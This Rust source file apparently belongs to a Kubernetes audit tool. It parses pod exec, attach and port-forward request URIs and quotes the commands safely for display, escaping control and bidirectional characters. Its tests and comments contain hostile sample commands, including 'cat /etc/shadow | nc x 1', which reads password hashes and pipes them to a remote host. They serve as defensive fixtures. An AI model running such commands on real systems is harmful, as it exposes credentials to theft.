//! What a streaming request into a pod asked for, read from its request URI: the command and
//! container of an `exec`, the container of an `attach`, the ports of a `portforward`. The
//! apiserver records these only inside `requestURI`
//! (`/api/v1/namespaces/ns/pods/web/exec?command=sh&command=-c&container=app&stdin=true&tty=true`);
//! the query is `PodExecOptions`, `PodAttachOptions` or `PodPortForwardOptions` as
//! `url.Values` encodes them (repeated `command`, `+` for a space).

/// Which kind of streaming request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StreamKind {
    /// `pods/exec`: a command run in a container.
    Exec,
    /// `pods/attach`: the console of a running container.
    Attach,
    /// `pods/portforward`: ports of the pod opened to the client.
    PortForward,
}

impl StreamKind {
    /// The subresource's name.
    pub fn as_str(self) -> &'static str {
        match self {
            StreamKind::Exec => "exec",
            StreamKind::Attach => "attach",
            StreamKind::PortForward => "portforward",
        }
    }
}

/// A streaming request's options.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StreamRequest {
    /// exec, attach or port-forward.
    pub kind: StreamKind,
    /// The container (`None`: the pod's default container).
    pub container: Option<String>,
    /// The command and its arguments (exec).
    pub command: Vec<String>,
    /// The ports (port-forward).
    pub ports: Vec<String>,
    /// A terminal was asked for.
    pub tty: bool,
    /// The client's standard input was attached.
    pub stdin: bool,
}

impl StreamRequest {
    /// The options of a request on `pods/{subresource}`, from its request URI; `None` for any
    /// other subresource.
    pub fn of(resource: &str, subresource: &str, request_uri: &str) -> Option<StreamRequest> {
        let kind = match (resource, subresource) {
            ("pods", "exec") => StreamKind::Exec,
            ("pods", "attach") => StreamKind::Attach,
            ("pods", "portforward") => StreamKind::PortForward,
            _ => return None,
        };
        let mut out = StreamRequest {
            kind,
            container: None,
            command: Vec::new(),
            ports: Vec::new(),
            tty: false,
            stdin: false,
        };
        let query = request_uri.split_once('?').map_or("", |(_, q)| q);
        // A single-valued option takes its first value, even an empty one, as the apiserver's
        // query decoding (`Convert_Slice_string_To_string`, `_To_bool`) does.
        let (mut tty, mut stdin, mut container) = (None, None, None);
        for (key, value) in crate::parse_query(query) {
            match key.as_str() {
                "command" => out.command.push(value),
                "container" if container.is_none() => container = Some(value),
                // The apiserver's port-forward takes `ports=8080` or `ports=8080,9090`.
                "ports" => out.ports.extend(
                    value
                        .split(',')
                        .map(str::trim)
                        .filter(|p| !p.is_empty())
                        .map(str::to_string),
                ),
                "tty" => tty = tty.or(Some(truthy(&value))),
                "stdin" => stdin = stdin.or(Some(truthy(&value))),
                _ => {}
            }
        }
        out.tty = tty.unwrap_or(false);
        out.stdin = stdin.unwrap_or(false);
        out.container = container.filter(|c| !c.is_empty());
        Some(out)
    }

    /// The command as a shell would read it back: `sh -c 'cat /etc/shadow'`.
    pub fn command_line(&self) -> String {
        self.command
            .iter()
            .map(|a| shell_word(a))
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// One line for tables: `sh -c 'id' in app (tty)`, `attach to app`, `ports 8080, 9090`.
    pub fn summary(&self) -> String {
        let mut s = match self.kind {
            StreamKind::Exec if self.command.is_empty() => "exec (no command)".to_string(),
            StreamKind::Exec => self.command_line(),
            StreamKind::Attach => "attach".to_string(),
            StreamKind::PortForward if self.ports.is_empty() => "port-forward".to_string(),
            StreamKind::PortForward => format!("port-forward {}", self.ports.join(", ")),
        };
        if let Some(c) = &self.container {
            s.push_str(" in ");
            s.push_str(c);
        }
        match (self.tty, self.stdin) {
            (true, _) => s.push_str(" (interactive terminal)"),
            (false, true) => s.push_str(" (stdin)"),
            _ => {}
        }
        s
    }
}

/// How the apiserver's query decoding reads a flag that is present
/// (`Convert_Slice_string_To_bool`): false only for `0` and `false` in any case; anything
/// else, the empty value included, is true.
fn truthy(v: &str) -> bool {
    !(v == "0" || v.eq_ignore_ascii_case("false"))
}

/// `word` quoted for a POSIX shell when it needs it: left alone when every character is
/// ordinary, otherwise in single quotes (a quote inside written `'\''`). Control characters and
/// invisible format characters (bidirectional overrides, zero-width spaces) are shown escaped,
/// so a command can neither rewrite the terminal or page it is shown on nor read as another.
fn shell_word(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c));
    if plain {
        return word.to_string();
    }
    let mut out = String::from("'");
    for c in word.chars() {
        match c {
            '\'' => out.push_str("'\\''"),
            c if c.is_control() || is_invisible_format(c) => out.extend(c.escape_unicode()),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// Unicode's format characters (general category Cf, as of Unicode 15.1) and the line and
/// paragraph separators (Zl, Zp): invisible, or changing how the text around them is shown
/// (bidirectional overrides, zero-width spaces).
pub fn is_invisible_format(c: char) -> bool {
    matches!(
        c,
        '\u{ad}'
            | '\u{600}'..='\u{605}'
            | '\u{61c}'
            | '\u{6dd}'
            | '\u{70f}'
            | '\u{890}'..='\u{891}'
            | '\u{8e2}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{206f}'
            | '\u{feff}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{110bd}'
            | '\u{110cd}'
            | '\u{13430}'..='\u{1343f}'
            | '\u{1bca0}'..='\u{1bca3}'
            | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0001}'
            | '\u{e0020}'..='\u{e007f}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_exec_reads_as_the_command_kubectl_ran() {
        let uri = "/api/v1/namespaces/prod/pods/web-0/exec?command=sh&command=-c&command=cat+%2Fetc%2Fshadow+%7C+nc+x+1&container=app&stdin=true&stdout=true&tty=true";
        let r = StreamRequest::of("pods", "exec", uri).unwrap();
        assert_eq!(r.kind, StreamKind::Exec);
        assert_eq!(r.command, ["sh", "-c", "cat /etc/shadow | nc x 1"]);
        assert_eq!(r.container.as_deref(), Some("app"));
        assert!(r.tty && r.stdin);
        assert_eq!(r.command_line(), "sh -c 'cat /etc/shadow | nc x 1'");
        assert_eq!(
            r.summary(),
            "sh -c 'cat /etc/shadow | nc x 1' in app (interactive terminal)"
        );
    }

    #[test]
    fn attach_and_port_forward_have_their_own_options() {
        let a = StreamRequest::of(
            "pods",
            "attach",
            "/api/v1/namespaces/d/pods/p/attach?container=c&stdin=1",
        )
        .unwrap();
        assert_eq!(a.summary(), "attach in c (stdin)");
        let p = StreamRequest::of(
            "pods",
            "portforward",
            "/api/v1/namespaces/d/pods/p/portforward?ports=8080,9090",
        )
        .unwrap();
        assert_eq!(p.ports, ["8080", "9090"]);
        assert_eq!(p.summary(), "port-forward 8080, 9090");
        // The first value of a single-valued option counts; only 0 and false are false.
        let twice = StreamRequest::of(
            "pods",
            "exec",
            "/api/v1/namespaces/d/pods/p/exec?command=id&container=a&container=b&tty=FALSE&tty=true&stdin=",
        )
        .unwrap();
        assert_eq!(twice.container.as_deref(), Some("a"));
        assert!(!twice.tty && twice.stdin);
        // The first container value is empty: the apiserver runs in the default container.
        let empty = StreamRequest::of(
            "pods",
            "exec",
            "/x/exec?command=id&container=&container=decoy",
        )
        .unwrap();
        assert_eq!(empty.container, None);
        // Go's ParseQuery drops a pair with a ';' or a bad escape; the apiserver never saw them.
        let dropped = StreamRequest::of(
            "pods",
            "exec",
            "/x/exec?command=id&command=a;b&command=%zz&command=%41+b",
        )
        .unwrap();
        assert_eq!(dropped.command, ["id", "A b"]);
        assert!(StreamRequest::of("pods", "log", "/api/v1/namespaces/d/pods/p/log").is_none());
        assert!(StreamRequest::of("services", "proxy", "/x").is_none());
        // No query: the options are all defaults.
        let bare = StreamRequest::of("pods", "exec", "/api/v1/namespaces/d/pods/p/exec").unwrap();
        assert_eq!(bare.summary(), "exec (no command)");
    }

    #[test]
    fn quoting_keeps_quotes_and_control_characters_visible() {
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("a\u{1b}[2Jb"), r"'a\u{1b}[2Jb'");
        // A right-to-left override would make `rm -rf /tmp/x` read as something else.
        assert_eq!(shell_word("x\u{202e}y"), r"'x\u{202e}y'");
        assert_eq!(shell_word("zero\u{200b}width"), r"'zero\u{200b}width'");
        assert_eq!(
            shell_word("--namespace=kube-system"),
            "--namespace=kube-system"
        );
    }
}
